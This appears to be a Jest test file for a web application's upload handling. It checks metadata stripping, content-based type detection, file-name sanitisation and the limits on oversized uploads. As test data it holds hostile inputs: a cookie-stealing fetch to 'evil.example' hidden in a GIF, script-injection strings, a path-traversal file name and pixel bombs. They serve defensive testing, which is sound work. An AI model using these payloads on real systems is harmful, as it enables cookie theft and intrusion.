import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import sharp from 'sharp';
import { PrivateFiles } from '../../src/media/private-files.js';
import { openClippingsRoom, picture } from '../support/clippings-room.js';
import type { ClippingsRoom } from '../support/clippings-room.js';
import { eventually } from '../support/eventually.js';
import { claimingPng, gifScript, noise, pdf, svg, textBombPng, wav } from '../support/hostile-files.js';

const own = { rightsBasis: 'own' };

describe('files of clippings', () => {
  let room: ClippingsRoom;
  beforeAll(async () => {
    room = await openClippingsRoom();
  });
  afterAll(() => room.house.close());

  const fetched = (id: string, path = '') => room.house.charlie.get(`/clippings/${id}/file${path}`);
  const added = async (file: Buffer, name?: string, fields = own) =>
    (await room.post(fields, file, name).expect(201)).body as {
      id: string;
      kind: string;
      file: { name: string };
    };

  it('are written anew: place, camera, names and what was glued behind are gone, the picture stands upright', async () => {
    const marked = await noise(400, 300)
      .withExif({
        IFD0: { Artist: 'Erika Beispiel', Make: 'Kamerawerk' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '48/1 21/1 0/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '10/1 53/1 0/1',
        },
      })
      .withXmp(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>',
      )
      .jpeg()
      .toBuffer();
    const turned = await sharp(marked).keepMetadata().withMetadata({ orientation: 6 }).jpeg().toBuffer();
    const hostile = Buffer.concat([turned, Buffer.from('<script>alert(document.cookie)</script>')]);
    expect(hostile.includes('Erika Beispiel')).toBe(true);
    const { id } = await added(hostile, 'GPS.jpg');
    for (const part of ['', '/page', '/thumb']) {
      const { body, headers } = await fetched(id, part).expect(200);
      const bytes = body as Buffer;
      const facts = await sharp(bytes).metadata();
      expect([facts.exif, facts.xmp, facts.iptc, facts.orientation]).toEqual(Array(4).fill(undefined));
      expect(facts.height).toBeGreaterThan(facts.width);
      for (const secret of ['Erika', 'Kamerawerk', '<script', 'xmpmeta'])
        expect(bytes.includes(secret)).toBe(false);
      expect(headers['content-type']).toBe('image/webp');
    }
    expect((await room.onDisk()).filter((name) => !['page.webp', 'thumb.webp'].includes(name))).toEqual([]);
  });

  it.each<[string, number, string, () => Promise<Buffer> | Buffer, string]>([
    ['SVG with a script', 422, 'file-unknown-type', () => svg, 'bild.png'],
    [
      'HTML named .png',
      422,
      'file-unknown-type',
      () => Buffer.from('<!doctype html><script>alert(1)</script>'),
      'x.png',
    ],
    ['a program', 422, 'file-unknown-type', () => Buffer.from('MZ'.padEnd(200, '\0')), 'scan.jpg'],
    [
      'a ZIP before a PDF',
      422,
      'file-unknown-type',
      () => Buffer.concat([Buffer.from('504b0304'.padEnd(40, '0'), 'hex'), pdf()]),
      'x.pdf',
    ],
    ['nothing', 422, 'file-empty', () => Buffer.alloc(0), 'leer.pdf'],
    ['three bytes', 422, 'file-unknown-type', () => Buffer.from('abc'), 'x.png'],
    ['a pixel bomb', 413, 'picture-too-large', () => claimingPng(60_000, 60_000), 'bombe.png'],
    [
      'a bomb with pixels behind it',
      413,
      'picture-too-large',
      () => claimingPng(30_000, 30_000, 400),
      'bombe.png',
    ],
    [
      'a PNG whose pixels end early',
      422,
      'picture-unreadable',
      () => claimingPng(2000, 2000, 10),
      'halb.png',
    ],
    [
      'half a JPEG',
      422,
      'picture-unreadable',
      async () => (await noise().jpeg().toBuffer()).subarray(0, 4000),
      'halb.jpg',
    ],
    ['a GIF of several frames', 422, 'picture-many-pages', () => animation(), 'film.gif'],
    ['half a PDF', 422, 'pdf-unreadable', () => pdf().subarray(0, 200), 'halb.pdf'],
    [
      'a PDF with HTML behind it',
      422,
      'pdf-unreadable',
      () => Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')]),
      'x.pdf',
    ],
    [
      'a picture over its limit',
      413,
      'file-too-large',
      async () => Buffer.concat([await picture(), Buffer.alloc(25 * 1024 * 1024)]),
      'gross.png',
    ],
    [
      'a PDF over its limit',
      413,
      'file-too-large',
      () => Buffer.concat([pdf(), Buffer.alloc(50 * 1024 * 1024)]),
      'gross.pdf',
    ],
  ])('refuse %s with a remedy, and leave nothing behind', async (_, status, code, make, name) => {
    const [rows, files] = [await room.clippings.count(), (await room.onDisk()).length];
    const bytes = await make();
    const { body } = await room.post(own, bytes, name).expect(status);
    expect(body).toMatchObject({ type: `urn:echolot:problem:${code}`, status });
    expect((body as { detail: string }).detail.length).toBeGreaterThan(40);
    const form = await room
      .upload({ ...own, proof: 'Selbst fotografiert', capturedDay: '2026-03-01' }, bytes, name)
      .expect(status);
    expect(form.text).toContain('id="field-file-error"');
    expect(form.text).toContain('Selbst fotografiert</textarea>');
    expect(form.text).toContain('value="2026-03-01"');
    expect([await room.clippings.count(), (await room.onDisk()).length]).toEqual([rows, files]);
  });

  it('cut a text bomb out without unpacking it into the copy', async () => {
    const { id } = await added(textBombPng(await picture(), 40));
    const { body } = await fetched(id).expect(200);
    expect((body as Buffer).length).toBeLessThan(100_000);
  });

  it('of a picture that is a script as well keep the picture only', async () => {
    const polyglot = await gifScript('fetch("//evil.example/"+document.cookie)');
    const { id } = await added(polyglot, 'bild.gif');
    const { body, headers } = await fetched(id).expect(200);
    expect((body as Buffer).includes('evil.example')).toBe(false);
    expect(headers).toMatchObject({ 'content-type': 'image/webp', 'x-content-type-options': 'nosniff' });
  });

  it('are what their content says, whatever their name claims', async () => {
    expect(await added(await picture(), 'vertrag.pdf')).toMatchObject({
      kind: 'scan',
      file: { name: 'vertrag' },
    });
    expect(await added(pdf(), 'bild.png')).toMatchObject({ kind: 'pdf' });
    expect(await added(wav(), 'lied.exe')).toMatchObject({ kind: 'audio' });
    expect(await added(await picture(), 'x.png', { ...own, kind: 'screenshot' } as typeof own)).toMatchObject(
      { kind: 'screenshot' },
    );
  });

  it.each([
    ['../../../etc/passwd.png', 'passwd'],
    ['..\\..\\windows\\Größe.png', 'Größe'],
    ['GrÃ¶ße.png', 'GrÃ¶ße'],
    ['日本語 🎈.png', '日本語 🎈'],
    ['a\u202Egnp.exe.png', 'a gnp.exe'],
    ['<img src=x onerror=alert(1)>.png', 'img src=x onerror=alert(1)'],
    [`${'ä'.repeat(300)}.png`, 'ä'.repeat(120)],
  ])('called %j are shown as %j and lie under no name of theirs', async (name, shown) => {
    const before = (await room.onDisk()).length;
    const clipping = await added(await picture(), name);
    expect(clipping.file.name).toBe(shown);
    expect((await room.onDisk()).length).toBe(before + 2);
    const known = ['page.webp', 'thumb.webp', 'original.pdf', 'original.wav'];
    expect((await room.onDisk()).filter((each) => !known.includes(each))).toEqual([]);
    const { headers } = await fetched(clipping.id, '?for=download').expect(200);
    expect(offeredName(headers['content-disposition'])).toBe(`${shown}.webp`);
    expect(headers['content-disposition']).toMatch(/^attachment; /);
  });

  it('in PDF are handed out only: never shown in place, boxed in, byte by byte as they came', async () => {
    const bytes = pdf('app.alert(1)');
    const { id } = await added(bytes, 'Seite 3.pdf');
    for (const path of ['', '?for=view', '?for=print']) {
      const answer = await fetched(id, path).buffer(true).expect(200);
      expect(answer.headers).toMatchObject({
        'content-type': 'application/pdf',
        'content-disposition': 'attachment; filename="Seite 3.pdf"',
        'content-security-policy': "default-src 'none'; sandbox",
        'x-content-type-options': 'nosniff',
        'cache-control': 'private, no-store',
      });
      expect((answer.body as Buffer).equals(bytes)).toBe(true);
    }
    await fetched(id, '/thumb').expect(404);
    const page = await room.house.charlie.get(`/clippings/${id}`).expect(200);
    expect(page.text).not.toMatch(/<(iframe|embed|object)\b/);
  });

  it('of sound are played in parts', async () => {
    const { id } = await added(wav(20_000), 'Interview.wav');
    const part = await fetched(id).set('range', 'bytes=44-143').buffer(true).expect(206);
    expect(part.headers).toMatchObject({
      'content-range': 'bytes 44-143/20044',
      'content-type': 'audio/wav',
    });
    expect(part.headers['content-disposition']).toMatch(/^inline/);
    await fetched(id).set('range', 'bytes=999999-').expect(416);
    const { etag } = part.headers;
    await fetched(id).set('if-none-match', String(etag)).expect(304);
  });

  it('are not taken before the right to them: a file that comes first is refused', async () => {
    const answer = await room.house.bob
      .post(`/api/v1/mentions/${room.mentionId}/clippings`)
      .attach('file', await picture(), { filename: 'x.png' })
      .field('rightsBasis', 'own')
      .expect(422);
    expect(answer.body).toMatchObject({ type: 'urn:echolot:problem:rights-before-file' });
    const without = await room.post({}, await picture()).expect(422);
    expect(without.body).toMatchObject({ errors: [{ path: 'rightsBasis' }] });
  });

  it('that break off on the way leave no draft', async () => {
    const { port } = room.house.app.getHttpServer().address() as AddressInfo;
    const files = (await room.onDisk()).length;
    const cookie = await cookieOfBob(room);
    const boundary = 'grenze';
    const sending = httpRequest({
      port,
      method: 'POST',
      path: `/mentions/${room.mentionId}/clippings`,
      headers: {
        cookie,
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'content-length': 5_000_000,
      },
    });
    sending.on('error', () => undefined);
    sending.write(
      `--${boundary}\r\nContent-Disposition: form-data; name="rightsBasis"\r\n\r\nown\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n`,
    );
    sending.write(Buffer.concat([pdf(), Buffer.alloc(200_000)]));
    await eventually(async () => expect((await room.onDisk()).length).toBe(files + 1));
    sending.destroy();
    await eventually(async () => expect((await room.onDisk()).length).toBe(files));
  });
});

describe('an upload beyond all limits', () => {
  it('leaves the disk at once and is answered when its sender is done', async () => {
    const room = await openClippingsRoom();
    let sending: ReturnType<typeof httpRequest> | undefined;
    try {
      const { port } = room.house.app.getHttpServer().address() as AddressInfo;
      const boundary = 'grenze';
      const request = httpRequest({
        port,
        method: 'POST',
        path: `/api/v1/mentions/${room.mentionId}/clippings`,
        headers: {
          cookie: await cookieOfBob(room),
          'content-type': `multipart/form-data; boundary=${boundary}`,
          'transfer-encoding': 'chunked',
        },
      });
      sending = request;
      const status = new Promise<number>((resolve, reject) => {
        request.on('response', (response) => resolve(response.statusCode ?? 0));
        request.on('error', reject);
      });
      const send = async (bytes: string | Buffer) => {
        if (!request.write(bytes)) await new Promise((resolve) => request.once('drain', resolve));
      };
      await send(
        `--${boundary}\r\nContent-Disposition: form-data; name="rightsBasis"\r\n\r\nown\r\n` +
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.wav"\r\n\r\n`,
      );
      await send(wav());
      const megabytes = Buffer.alloc(4 * 1024 * 1024);
      for (let sent = 0; sent < 204; sent += 4) await send(megabytes);
      // the sender still holds the line
      await eventually(async () => expect(await room.onDisk()).toEqual([]));
      request.end(`\r\n--${boundary}--\r\n`);
      expect(await status).toBe(413);
      expect(await room.onDisk()).toEqual([]);
      expect(await room.clippings.count()).toBe(0);
    } finally {
      sending?.destroy();
      await room.house.close();
    }
  }, 60_000);
});

describe('an upload without room on the disk', () => {
  it('is refused with a clear word, and nothing is lost', async () => {
    const room = await openClippingsRoom({ UPLOADS_RESERVE_MB: '999999999' });
    try {
      const answer = await room.upload({ ...own, proof: 'Eigenes Foto' }, await picture()).expect(507);
      expect(answer.text).toContain('kein Platz');
      expect(answer.text).toContain('Eigenes Foto</textarea>');
      expect(await room.onDisk()).toEqual([]);
      expect(await room.house.app.get(PrivateFiles).freeBytes()).toBeGreaterThan(0);
    } finally {
      await room.house.close();
    }
  });
});

/** The name under which a browser would save it (RFC 6266). */
function offeredName(disposition = ''): string {
  const extended = /filename\*=UTF-8''([^;]+)/.exec(disposition)?.[1];
  if (extended !== undefined) return decodeURIComponent(extended);
  return /filename="?([^"]*)"?/.exec(disposition)?.[1] ?? '';
}

async function animation(): Promise<Buffer> {
  const frames = await Promise.all(['#f00', '#0f0'].map((color) => picture(color, 40, 40)));
  return sharp(frames, { join: { animated: true } })
    .gif()
    .toBuffer();
}

/** A session of its own, to be sent by hand. */
async function cookieOfBob({ house }: ClippingsRoom): Promise<string> {
  const answer = await house
    .guest()
    .post('/sign-in')
    .type('form')
    .send({ email: 'bob@example.org', password: 'langes wort für Bernd' })
    .expect(303);
  return [answer.headers['set-cookie'] ?? []]
    .flat()
    .map((each) => each.split(';')[0])
    .join('; ');
}
